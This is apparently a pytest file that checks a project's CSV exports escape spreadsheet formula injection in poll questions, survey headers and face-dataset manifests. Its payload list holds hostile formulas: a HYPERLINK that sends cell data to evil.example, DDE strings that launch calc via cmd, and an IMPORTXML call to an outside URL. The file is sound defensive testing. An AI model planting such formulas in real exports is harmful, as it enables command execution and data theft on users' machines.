"""Bad input, round 2, class 8 (issue 23): formulas in every exported cell.

Free-text answers were escaped, but question texts and choices (which reach a poll from respondents
through ``--questions-from``) went out raw. Every CSV the project writes (the survey's cleaned export,
the vote's export, the face pipeline's manifest) now passes every cell, header included, through
core.spreadsheet. The payloads are generated here.
"""

from __future__ import annotations

import csv
import io
import itertools
import json

import numpy as np
import pytest

from core import survey as sv
from core import vote
from core.spreadsheet import FORMULA_PREFIXES, csv_bytes, neutralise_formula
from tests.bad_inputs.conftest import run_cli_batch

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
    "=IMPORTXML(CONCAT(\"http://x/\", A2), \"//a\")",
]  # fmt: skip


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and neutralise_formula(cell) != cell


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]


def test_no_cell_of_any_shape_starts_a_formula():
    rows = [[p, 3, -3, "-3", "+1.5e3", None, "plain"] for p in PAYLOADS]
    cells = _cells(csv_bytes(PAYLOADS[:7], rows))
    assert not any(_is_formula(c) for c in cells)
    assert "-3" in cells and "+1.5e3" in cells  # numbers stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_poll_export_escapes_questions_choices_and_answers(payload, tmp_path):
    db = vote.open_db(tmp_path / "votes.sqlite3")
    poll = vote.open_poll(db, [
        {"text": payload.strip() + " ?", "kind": "choice", "choices": [payload.strip(), "@other"]},
        {"text": "Why?", "kind": "text"},
    ])  # fmt: skip
    for i, choice in enumerate(itertools.islice(itertools.cycle(poll.questions[0].choices), 3)):
        vote.submit_ballot(db, poll.id, vote.new_voter_token(), {"q1": choice, "q2": f"{payload} {i}"})
    data = vote.export_csv_bytes(db, poll.id)
    cells = _cells(data)
    assert len(cells) == 3 * 4 and not any(_is_formula(c) for c in cells)
    # The survey module reads the export back: same counts, the escaped labels as labels.
    clean = sv.clean_survey(sv.read_survey(data))
    counts = sv.answer_counts(clean, neutralise_formula(poll.questions[0].text))
    assert sorted(counts["count"]) == [1, 2]


def test_the_vote_cli_export_is_spreadsheet_safe(tmp_path):
    db_path, questions = tmp_path / "v.sqlite3", tmp_path / "q.json"
    questions.write_text(json.dumps([{"text": "=cmd|' /C calc'!A0", "kind": "choice",
                                      "choices": ["=1+1", "+SUM(A1:A9)"]}]))
    db = vote.open_db(db_path)
    results = run_cli_batch([["core.vote", "open", "--db", db_path, "--questions-json", questions]])
    assert results[0].returncode == 0, results[0].stderr
    poll = vote.current_poll(db)
    vote.submit_ballot(db, poll.id, vote.new_voter_token(), {"q1": "=1+1"})
    (export,) = run_cli_batch([["core.vote", "export", "--db", db_path, "--poll", poll.id]])
    assert export.returncode == 0, export.stderr
    cells = _cells(export.stdout.encode())
    assert "'=cmd|' /C calc'!A0" in cells and "'=1+1" in cells and not any(_is_formula(c) for c in cells)


@pytest.mark.parametrize("seed", range(3))
def test_survey_cleaned_export_escapes_headers_and_choices(seed):
    rng = np.random.default_rng(seed)
    header = ["Timestamp", PAYLOADS[seed], "=Which?", "Comment"]
    rows = [[f"2026/03/02 9:{i:02d}:00", PAYLOADS[int(rng.integers(0, 3))], rng.choice(["=Yes", "No"]),
             PAYLOADS[int(rng.integers(0, len(PAYLOADS)))]] for i in range(30)]
    buf = io.StringIO()
    csv.writer(buf).writerows([header, *rows])
    clean = sv.clean_survey(sv.read_survey(buf.getvalue().encode()))
    cells = _cells(sv.cleaned_csv_bytes(clean))
    assert not any(_is_formula(c) for c in cells)
    assert len(cells) == 4 * 31


def test_faces_manifest_escapes_file_names_and_metadata(tmp_path):
    from core.faces.export import MANIFEST_COLUMNS, export_training_set
    from core.faces.records import FaceRecord, ImageRecord, ScanConfig
    from core.faces.scan import ScanResult

    crop = np.full((64, 64, 3), 120, np.uint8)
    records = []
    for i, payload in enumerate(PAYLOADS):
        face = FaceRecord(box=[0, 0, 64, 64], score=0.9, points=None, crop_points=None, blur=50.0,
                          phash="0" * 16, crop=crop, kept=True)
        records.append(ImageRecord(file=f"{payload.strip()}-{i}.jpg", faces=[face]))
    metadata = {f"{p.strip()}-{i}.jpg": {"name": p, "occupation": "@" + p} for i, p in enumerate(PAYLOADS)}
    images = export_training_set(ScanResult(records, 0.0, ScanConfig()), tmp_path / "set", metadata)
    data = (images / "manifest.csv").read_bytes()
    cells = _cells(data)
    assert cells[: len(MANIFEST_COLUMNS)] == MANIFEST_COLUMNS
    assert len(cells) == len(MANIFEST_COLUMNS) * (len(PAYLOADS) + 1)
    assert not any(_is_formula(c) for c in cells)
